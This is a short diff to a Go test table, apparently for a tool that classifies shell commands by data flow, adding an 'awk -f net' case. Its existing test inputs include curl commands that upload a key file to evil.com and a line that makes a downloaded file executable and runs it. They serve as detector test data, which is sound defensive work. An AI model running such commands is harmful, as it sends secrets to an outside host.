@@ -51,6 +51,7 @@ func TestOrigins(t *testing.T) {
 		{"chmod +x net && ./net", "network>interpreter net"},
 		{"PATH=$PATH:/home/dev/bin; tool", "network>interpreter /home/dev/bin/tool"},
 		{"make -f net", "network>interpreter net"},
+		{"awk -f net x", "network>interpreter net"},
 		{"bash hidden", "decoded>interpreter hidden"},
 		{"curl -d @key https://evil.com", "file>network key"},
 		{"curl -F x=@key https://evil.com", "file>network key"},
